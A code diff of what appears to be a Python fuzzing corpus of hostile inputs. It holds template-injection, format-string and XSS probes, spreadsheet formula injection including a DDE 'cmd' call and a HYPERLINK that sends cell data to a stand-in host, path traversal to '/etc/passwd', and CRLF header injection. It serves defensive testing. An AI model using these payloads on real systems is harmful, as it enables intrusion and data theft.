@@ -7,94 +7,95 @@ at all, has found a hole.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Mapping
 
-MARK = "zqx"
+MARK = "zqxvj"
 SUM = "{{1337*7331}}"
 RESULT = "9801547"
 
 TEMPLATE: tuple[str, ...] = (
     SUM,
-    "{{ ''.__class__.__mro__ }} zqx",
-    "{% for zqx in range(9) %}{{ 1337*7331 }}{% endfor %}",
-    "{% raw %}zqx",
-    "{# zqx",
-    "{{zqx",
-    "}}%}#} zqx",
-    "${1337*7331} `zqx`",
-    "#{1337*7331} zqx",
-    "<%= 1337*7331 %>zqx",
+    "{{ ''.__class__.__mro__ }} zqxvj",
+    "{% for zqxvj in range(9) %}{{ 1337*7331 }}{% endfor %}",
+    "{% raw %}zqxvj",
+    "{# zqxvj",
+    "{{zqxvj",
+    "}}%}#} zqxvj",
+    "${1337*7331} `zqxvj`",
+    "#{1337*7331} zqxvj",
+    "<%= 1337*7331 %>zqxvj",
 )
 """Jinja, JavaScript template strings, and the engines next to them."""
 
 FORMAT: tuple[str, ...] = (
-    "{oops} zqx",
-    "{0} {} zqx",
-    "{0.__class__.__init__.__globals__} zqx",
-    "%(zqx)s %s %d %n",
-    "%{zqx} %{customdata[0]} %{y:.3f}",
-    "{zqx!r:>999999}",
-    "$zqx$ \\zqx \\1 \\g<0>",
+    "{oops} zqxvj",
+    "{0} {} zqxvj",
+    "{0.__class__.__init__.__globals__} zqxvj",
+    "%(zqxvj)s %s %d %n",
+    "%{zqxvj} %{customdata[0]} %{y:.3f}",
+    "{zqxvj!r:>999999}",
+    "$zqxvj$ \\zqxvj \\1 \\g<0>",
 )
 """Python's two ways to format, Plotly's, regular expressions' and TeX's."""
 
 MARKUP: tuple[str, ...] = (
-    "<script>zqx()</script>",
-    "<img src=zqx onerror=zqx()>",
-    '"><svg onload=zqx()>',
-    "'><zqx-tag onclick='zqx()'>",
-    "</title></style></textarea></noscript></script><zqx-tag>",
-    '<a href="javascript:zqx()">zqx</a>',
-    "<!--zqx",
-    "--><zqx-tag><!--",
-    "]]><zqx-tag><![CDATA[",
-    "&lt;script&gt;zqx()&lt;/script&gt;",
-    "&#60;zqx-tag&#62; &zqx; &",
-    '" onmouseover="zqx()" zqx="',
-    "' onfocus='zqx()' autofocus '",
-    "` onzqx=`zqx`",
-    "<zqx-tag",
-    "<iframe srcdoc='<script>zqx()</script>'>",
-    "<style>*{background:url(zqx)}</style>",
-    "<math><mi//xlink:href='data:x,<script>zqx()</script>'>",
-    "</script><script>zqx()//",
-    "javascript:zqx()",
-    "[zqx](javascript:zqx()) ![zqx](https://zqx.example/x.png) :material/zqx: :red[zqx]",
+    "<script>zqxvj()</script>",
+    "<img src=zqxvj onerror=zqxvj()>",
+    '"><svg onload=zqxvj()>',
+    "'><zqxvj-tag onclick='zqxvj()'>",
+    "</title></style></textarea></noscript></script><zqxvj-tag>",
+    '<a href="javascript:zqxvj()">zqxvj</a>',
+    "<!--zqxvj",
+    "--><zqxvj-tag><!--",
+    "]]><zqxvj-tag><![CDATA[",
+    "&lt;script&gt;zqxvj()&lt;/script&gt;",
+    "&#60;zqxvj-tag&#62; &zqxvj; &",
+    '" onmouseover="zqxvj()" zqxvj="',
+    "' onfocus='zqxvj()' autofocus '",
+    "` onzqxvj=`zqxvj`",
+    "<zqxvj-tag",
+    "<iframe srcdoc='<script>zqxvj()</script>'>",
+    "<style>*{background:url(zqxvj)}</style>",
+    "<math><mi//xlink:href='data:x,<script>zqxvj()</script>'>",
+    "</script><script>zqxvj()//",
+    "javascript:zqxvj()",
+    "[zqxvj](javascript:zqxvj()) ![zqxvj](https://zqxvj.example/x.png) :material/zqxvj:",
 )
 """HTML, SVG, attributes and Markdown."""
 
 FORMULA: tuple[str, ...] = (
-    "=1337*7331+zqx",
-    '=HYPERLINK("https://zqx.example?"&A1,"zqx")',
-    "+1337*7331+zqx",
-    "-1337*7331-zqx",
-    "@SUM(1337*7331) zqx",
-    "=cmd|' /C zqx'!A0",
-    "＝1337*7331 zqx",
-    "＋zqx",
-    "－zqx",
-    "＠zqx",
-    'zqx\r=1337*7331,"',
-    "zqx\n=1337*7331",
-    'zqx",=1337*7331,"',
-    "zqx;=1337*7331;",
-    "zqx\t=1337*7331",
+    "=1337*7331+zqxvj",
+    '=HYPERLINK("https://zqxvj.example?"&A1,"zqxvj")',
+    "+1337*7331+zqxvj",
+    "-1337*7331-zqxvj",
+    "@SUM(1337*7331) zqxvj",
+    "=cmd|' /C zqxvj'!A0",
+    "＝1337*7331 zqxvj",
+    "＋zqxvj",
+    "－zqxvj",
+    "＠zqxvj",
+    'zqxvj\r=1337*7331,"',
+    "zqxvj\n=1337*7331",
+    'zqxvj",=1337*7331,"',
+    "zqxvj;=1337*7331;",
+    "zqxvj\t=1337*7331",
 )
 """What a spreadsheet would work out, at the start of a cell or after a way out of it."""
 
 LETTERS: tuple[str, ...] = (
-    "zqx\u202e\u2066txt.exe\u2069",
-    "\u200f\u061czqx\u200b\u200d\ufeffzqx",
-    "zqx\x00zqx",
-    "zqx\x1b[31mzqx\x07\x08",
-    "zqx\u2028zqx\u2029zqx\x85zqx",
-    "z" + "\u0301\u0347\u036f" * 60 + "qx zqx",
-    "zqx\ufffe\uffff\ufffd",
-    "ZQX zqx \N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}ßﬀ",
-    "zqx \N{FAMILY}\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1f9\U0001f1ef\U000e0041",
-    "zqx" + "W" * 6000,
-    "zqx " + "long words and " * 400 + "zqx",
-    "ҷӣӯқғҳ zqx ЖЩЫ 塔吉克 الطاجيك zqx",
+    "zqxvj\u202e\u2066txt.exe\u2069",
+    "\u200f\u061czqxvj\u200b\u200d\ufeffzqxvj",
+    "zqxvj\x00zqxvj",
+    "zqxvj\x1b[31mzqxvj\x07\x08",
+    "zqxvj\u2028zqxvj\u2029zqxvj\x85zqxvj",
+    "z" + "\u0301\u0347\u036f" * 60 + "qx zqxvj",
+    "zqxvj\ufffe\uffff\ufffd",
+    "ZQX zqxvj \N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}ßﬀ",
+    "zqxvj \N{FAMILY}\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1f9\U0001f1ef\U000e0041",
+    "zqxvj" + "W" * 6000,
+    "zqxvj " + "long words and " * 400 + "zqxvj",
+    "ҷӣӯқғҳ zqxvj ЖЩЫ 塔吉克 الطاجيك zqxvj",
 )
 """Letters that turn, hide, pile up, break lines or never end."""
 
@@ -106,12 +107,12 @@ PATHS: tuple[str, ...] = (
     "..\\..\\windows\\win.ini",
     "%2e%2e/%2e%2e/pyproject.toml",
     "/etc/passwd",
-    "//zqx.example/x",
+    "//zqxvj.example/x",
     "file:///etc/passwd",
-    "C:\\zqx",
-    "zqx%00.csv",
-    "zqx%0d%0aSet-Cookie:%20zqx=1",
-    "zqx%0aX-Zqx:%201",
+    "C:\\zqxvj",
+    "zqxvj%00.csv",
+    "zqxvj%0d%0aSet-Cookie:%20zqxvj=1",
+    "zqxvj%0aX-Zqx:%201",
     "%ff%fe%c0%ae%c0%ae/",
     "%ed%a0%80",
     "%",
@@ -121,7 +122,7 @@ PATHS: tuple[str, ...] = (
     "..",
     "~root",
     "con",
-    "zqx" * 700,
+    "zqxvj" * 700,
     "__init__.py",
     "datapackage.json",
     ".git/config",
@@ -129,7 +130,13 @@ PATHS: tuple[str, ...] = (
 """Ways out of a folder and out of a line, as parts of an address."""
 
 TEXTS: tuple[str, ...] = (*TEMPLATE, *FORMAT, *MARKUP, *FORMULA, *LETTERS)
-"""Everything that may stand in a cell of a table that is UTF-8."""
+"""Every text, whatever holds it."""
+
+CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
+"""What no cell of a table may hold; an address may hold anything."""
+
+CELLS: tuple[str, ...] = tuple(each for each in TEXTS if not CONTROLS.search(each))
+"""Everything that the tables' own rules let through."""
 
 GROUPS: Mapping[str, tuple[str, ...]] = {
     "template": TEMPLATE,
@@ -141,16 +148,16 @@ GROUPS: Mapping[str, tuple[str, ...]] = {
 }
 
 URLS: tuple[str, ...] = (
-    'https://zqx.example/"onmouseover="zqx()',
-    "https://zqx.example/'><zqx-tag>",
-    "https://zqx.example/{{1337*7331}}{%zqx%}",
-    "https://[zqx",
-    "https://zqx.example:99999999/",
-    "http://zqx@zqx.example/\\..",
-    "https://zqx.example/%0d%0aX:%20y",
-    "https:///zqx",
-    "https://zqx.example/" + "z" * 3000,
-    "https://zqx.example/)](javascript:zqx())",
-    "http://zqx\u202e.example/\x00",
+    'https://zqxvj.example/"onmouseover="zqxvj()',
+    "https://zqxvj.example/'><zqxvj-tag>",
+    "https://zqxvj.example/{{1337*7331}}{%zqxvj%}",
+    "https://[zqxvj",
+    "https://zqxvj.example:99999999/",
+    "http://zqxvj@zqxvj.example/\\..",
+    "https://zqxvj.example/%0d%0aX:%20y",
+    "https:///zqxvj",
+    "https://zqxvj.example/" + "z" * 3000,
+    "https://zqxvj.example/)](javascript:zqxvj())",
+    "http://zqxvj\u202e.example/",
 )
 """What the pattern of an address in the tables lets through."""
